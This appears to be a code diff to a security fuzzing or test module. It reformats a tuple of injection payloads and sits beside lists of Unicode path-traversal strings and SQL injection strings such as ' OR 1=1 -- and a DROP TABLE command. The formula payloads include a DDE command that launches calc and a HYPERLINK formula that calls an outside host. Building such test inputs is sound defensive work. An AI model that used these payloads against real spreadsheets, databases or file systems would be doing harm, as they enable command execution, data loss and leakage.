@@ -62,7 +62,21 @@ _TRAVERSALS = (
     "\u2024\u2024/x{n}",
     "..\u2215..\u2215x{n}",
 )
-_FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "=cmd|' /C calc'!A", '=HYPERLINK("http://{host}/","x")&', "＝", "＋", "－", "＠")
+_FORMULAS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    "=cmd|' /C calc'!A",
+    '=HYPERLINK("http://{host}/","x")&',
+    "＝",
+    "＋",
+    "－",
+    "＠",
+)
 _QUERIES = (
     "' OR 1=1 --{n}",
     '" ; DROP TABLE queries; --{n}',
